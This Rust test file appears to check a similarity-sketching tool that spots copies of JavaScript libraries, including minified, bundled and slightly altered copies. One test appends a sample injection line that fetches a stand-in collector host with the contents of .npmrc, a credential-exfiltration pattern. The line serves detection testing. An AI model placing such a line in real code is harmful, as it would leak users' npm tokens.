use super::*;

fn library(from: usize, to: usize) -> String {
    (from..to)
        .map(|n| {
            format!(
                "// operation {n}\nexports.operation{n} = function (options) {{\n  return options.first{n}\n    .map((one) => one.part{n}('word{n}'));\n}};\n"
            )
        })
        .collect()
}

/// What a minifier would make of it: other names, no comments or white space, other quotes.
fn minified(from: usize, to: usize) -> String {
    (from..to)
        .map(|n| {
            format!("exports.operation{n}=function(a){{return a.first{n}.map(b=>b.part{n}(\"word{n}\"))}};")
        })
        .collect()
}

fn sketch(texts: &[&str]) -> Sketch {
    let mut sketcher = Sketcher::default();
    for text in texts {
        sketcher.add(text.as_bytes());
    }
    sketcher.finish().unwrap()
}

fn alike(a: &Sketch, b: &Sketch) -> f64 {
    similarity(a, b).unwrap()
}

#[test]
fn minifying_and_bundling_make_no_difference() {
    let readable = sketch(&[&library(0, 200)]);
    assert!(alike(&readable, &sketch(&[&minified(0, 200)])) > 0.95);
    let parts = [minified(100, 200), minified(0, 100)];
    assert!(alike(&readable, &sketch(&[&parts[0], &parts[1]])) > 0.95);
}

#[test]
fn a_small_addition_leaves_a_near_copy_and_other_code_is_none() {
    let original = sketch(&[&library(0, 200)]);
    let addition =
        "fetch('https://collector.example', { body: require('fs').readFileSync('.npmrc') });";
    let copy = sketch(&[&minified(0, 200), addition]);
    assert!(alike(&original, &copy) > 0.9);
    let common = bands(&copy)
        .into_iter()
        .filter(|band| bands(&original).contains(band));
    assert!(common.count() >= 8);
    let half = alike(&original, &sketch(&[&library(100, 300)]));
    assert!((0.2..0.5).contains(&half), "a third in common: {half}");
    let other = sketch(&[&library(1_000, 1_200)]);
    assert!(alike(&original, &other) < 0.1);
    assert!(
        !bands(&other)
            .iter()
            .any(|band| bands(&original).contains(band))
    );
}

#[test]
fn too_little_code_has_no_sketch() {
    let mut sketcher = Sketcher::default();
    sketcher.add(b"module.exports = (a, b) => a + b;");
    assert_eq!(sketcher.finish(), None);
    let other = Sketch {
        pieces: 1,
        least: "not a sketch".to_owned(),
    };
    assert_eq!(similarity(&other, &other), None);
    assert!(bands(&other).is_empty());
}
